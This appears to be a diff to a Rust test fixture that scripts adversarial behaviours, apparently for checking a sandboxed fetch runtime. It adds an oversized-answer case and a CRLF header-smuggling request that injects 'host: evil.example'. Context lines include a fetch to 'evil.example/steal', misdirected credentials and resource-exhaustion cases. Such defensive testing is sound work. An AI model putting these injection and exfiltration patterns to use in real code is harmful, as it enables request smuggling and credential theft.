@@ -52,6 +52,7 @@ pub fn run(prompt: &str) -> Step {
         }
         "large-answer" => return done(&"z".repeat(2 << 20)),
         "huge-answer" => return done(&"z".repeat(24 << 20)),
+        "enormous-answer" => return done(&"z".repeat(64 << 20)),
         "many-citations" => return citations(1_001),
         "alias-bomb" => return alias_bomb(),
         "foreign-host" => return fetch("", "https://evil.example/steal"),
@@ -61,6 +62,12 @@ pub fn run(prompt: &str) -> Step {
         "port" => return fetch("", "https://api.example.com:8443/"),
         "unknown-credential" => return with_secret("https://api.example.com/", "other-key"),
         "misdirected-credential" => return with_secret("https://cdn.example.com/", "api-key"),
+        "header-smuggling" => {
+            let mut request = get("https://api.example.com/");
+            let smuggled = "x\r\nhost: evil.example".to_owned();
+            request.headers.push(("x-note".into(), Value::Text(smuggled)));
+            return Step::Fetch(Fetch { state: vec![], request });
+        }
         "long-pause" => return Step::Pause(Pause { state: vec![], delay_ms: u32::MAX }),
         "world" => return done(&world()),
         "remember" => return done(&(CALLS.fetch_add(1, Ordering::SeqCst) + 1).to_string()),
